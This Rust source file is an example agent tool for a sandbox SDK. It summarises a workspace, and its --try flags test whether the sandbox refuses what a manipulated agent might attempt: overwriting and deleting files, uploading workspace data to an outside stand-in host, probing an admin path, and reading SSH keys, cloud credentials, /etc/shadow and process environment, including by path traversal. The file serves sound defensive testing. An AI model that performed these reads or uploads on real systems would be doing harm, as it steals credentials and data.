//! Example connector: a tool an AI agent calls to look at a code workspace.
//!
//! It summarises the read-only folder `/workspace` (files, lines, words, the most frequent
//! words), prints the summary, and returns it to the agent's orchestrator with a POST to
//! `$RESULTS_URL`. It holds no secret. Its manifest is
//! `examples/agent-tool/agent-tool.warden.toml`.
//!
//! The `--try-…` flags attempt what an agent talked into misbehaving would, print
//! `refused: …` for each refusal or `ALLOWED: …` when one got through (exit code 2):
//!
//! - `--try-write`: change, create and delete files in `/workspace`;
//! - `--try-undeclared-http`: another path on the orchestrator, and an outside host;
//! - `--try-credentials`: read cloud, SSH and system credentials.

use std::collections::BTreeMap;
use std::fmt::Display;
use std::path::{Path, PathBuf};
use std::process::ExitCode;

use warden_sdk::http::Request;
use warden_sdk::{Error, fs, log};

const WORKSPACE: &str = "/workspace";
/// How many of the most frequent words the summary lists.
const TOP_WORDS: usize = 5;
/// Words shorter than this are left out of the frequencies: they are mostly "the", "and", …
const MIN_WORD_LEN: usize = 4;

#[derive(Default)]
struct Summary {
    files: usize,
    binary: usize,
    lines: usize,
    words: usize,
    frequencies: BTreeMap<String, usize>,
}

impl Summary {
    fn add_text(&mut self, text: &str) {
        self.files += 1;
        self.lines += text.lines().count();
        for word in text.split(|c: char| !c.is_alphanumeric() && c != '_') {
            if word.is_empty() {
                continue;
            }
            self.words += 1;
            if word.chars().count() >= MIN_WORD_LEN && word.chars().any(char::is_alphabetic) {
                *self.frequencies.entry(word.to_lowercase()).or_default() += 1;
            }
        }
    }

    /// The most frequent words, most frequent first, ties in alphabetical order.
    fn top(&self) -> Vec<(&str, usize)> {
        let mut words: Vec<(&str, usize)> = self
            .frequencies
            .iter()
            .map(|(w, n)| (w.as_str(), *n))
            .collect();
        words.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(b.0)));
        words.truncate(TOP_WORDS);
        words
    }

    fn render(&self) -> String {
        let top: Vec<String> = self
            .top()
            .iter()
            .map(|(w, n)| format!("{w} ({n})"))
            .collect();
        format!(
            "workspace {WORKSPACE}: {} files ({} text, {} binary), {} lines, {} words\n\
             most frequent: {}\n",
            self.files + self.binary,
            self.files,
            self.binary,
            self.lines,
            self.words,
            top.join(", ")
        )
    }
}

/// Every file under `dir`, sorted.
fn walk(dir: &Path, out: &mut Vec<PathBuf>) -> Result<(), Error> {
    let io = |source| Error::Io {
        path: dir.display().to_string(),
        source,
    };
    let mut entries: Vec<_> = std::fs::read_dir(dir)
        .map_err(io)?
        .collect::<Result<_, _>>()
        .map_err(io)?;
    entries.sort_by_key(|e| e.file_name());
    for entry in entries {
        let path = entry.path();
        if entry.file_type().map_err(io)?.is_dir() {
            walk(&path, out)?;
        } else {
            out.push(path);
        }
    }
    Ok(())
}

fn summarise() -> Result<Summary, Error> {
    let mut files = Vec::new();
    walk(Path::new(WORKSPACE), &mut files)?;
    let mut summary = Summary::default();
    for path in files {
        match String::from_utf8(fs::read(&path)?) {
            Ok(text) => summary.add_text(&text),
            Err(_) => summary.binary += 1,
        }
    }
    Ok(summary)
}

/// What the `--try-…` flags found.
#[derive(Default)]
struct Tries {
    allowed: usize,
}

impl Tries {
    /// Reports a failure as the expected refusal, a success as a thing let through. An HTTP
    /// failure other than [`Error::Denied`] happened after warden let the request out, so it
    /// counts as let through too.
    fn expect_refused<T>(&mut self, what: &str, outcome: Result<T, Error>) {
        match outcome {
            Err(e @ Error::Http { .. }) => {
                self.allowed(what, format_args!("got past the policy, then: {e}"));
            }
            Err(e) => println!("refused: {what}: {e}"),
            Ok(_) => self.allowed(what, "it succeeded"),
        }
    }

    fn allowed(&mut self, what: &str, detail: impl Display) {
        println!("ALLOWED: {what}: {detail}");
        self.allowed += 1;
    }
}

fn try_write(tries: &mut Tries) -> Result<(), Error> {
    tries.expect_refused(
        "create /workspace/NOTES.md",
        fs::write("/workspace/NOTES.md", "agent was here\n"),
    );
    let mut files = Vec::new();
    walk(Path::new(WORKSPACE), &mut files)?;
    if let Some(first) = files.first() {
        let what = format!("overwrite {}", first.display());
        tries.expect_refused(&what, fs::write(first, "overwritten by the agent\n"));
        let what = format!("delete {}", first.display());
        let removed = std::fs::remove_file(first).map_err(|source| Error::Io {
            path: first.display().to_string(),
            source,
        });
        tries.expect_refused(&what, removed);
    }
    tries.expect_refused(
        "create a folder in /workspace",
        fs::create_dir_all("/workspace/.agent"),
    );
    Ok(())
}

fn try_undeclared_http(tries: &mut Tries, results_url: &str) {
    // The orchestrator's host and port with another path: the rule is a path prefix.
    if let Some(origin) = origin(results_url) {
        let admin = format!("{origin}/admin/users");
        tries.expect_refused(&format!("GET {admin}"), Request::get(&admin).send());
    }
    let outside = "https://llm-proxy.example/v1/upload";
    tries.expect_refused(
        &format!("POST {outside}"),
        Request::post(outside).json("{\"workspace\":\"…\"}").send(),
    );
}

/// `scheme://authority` of a URL.
fn origin(url: &str) -> Option<&str> {
    let after_scheme = url.find("://")? + 3;
    let end = url[after_scheme..]
        .find('/')
        .map_or(url.len(), |i| after_scheme + i);
    Some(&url[..end])
}

fn try_credentials(tries: &mut Tries) {
    let mut paths: Vec<String> = [
        "/root/.aws/credentials",
        "/root/.ssh/id_rsa",
        "/etc/shadow",
        "/etc/passwd",
        "/workspace/../etc/passwd",
        "/proc/self/environ",
    ]
    .map(String::from)
    .into();
    // `~` is wherever HOME says, if the manifest passes one on at all.
    if let Ok(home) = std::env::var("HOME") {
        paths.insert(0, format!("{home}/.aws/credentials"));
    }
    for path in paths {
        tries.expect_refused(&format!("read {path}"), fs::read_to_string(&path));
    }
}

fn main() -> ExitCode {
    let mut flags = Vec::new();
    for arg in std::env::args().skip(1) {
        match arg.as_str() {
            "--try-write" | "--try-undeclared-http" | "--try-credentials" => flags.push(arg),
            other => {
                log::error(format_args!("unknown argument {other:?}"));
                return ExitCode::from(64);
            }
        }
    }
    let Ok(results_url) = std::env::var("RESULTS_URL") else {
        log::error("RESULTS_URL is not set: the manifest's [env] names the orchestrator");
        return ExitCode::FAILURE;
    };
    let summary = match summarise() {
        Ok(summary) => summary,
        Err(e) => {
            log::error(e);
            return ExitCode::FAILURE;
        }
    };
    let text = summary.render();
    print!("{text}");
    let result = serde_json::json!({ "tool": "summarise-workspace", "summary": text });
    match Request::post(&results_url).json(&result.to_string()).send() {
        Ok(response) => println!("result delivered: {}", response.status),
        Err(e) => {
            log::error(e);
            return ExitCode::FAILURE;
        }
    }

    let mut tries = Tries::default();
    for flag in &flags {
        match flag.as_str() {
            "--try-write" => {
                if let Err(e) = try_write(&mut tries) {
                    log::error(e);
                    return ExitCode::FAILURE;
                }
            }
            "--try-undeclared-http" => try_undeclared_http(&mut tries, &results_url),
            _ => try_credentials(&mut tries),
        }
    }
    if tries.allowed > 0 {
        log::error(format_args!(
            "{} refused thing(s) got through",
            tries.allowed
        ));
        return ExitCode::from(2);
    }
    ExitCode::SUCCESS
}
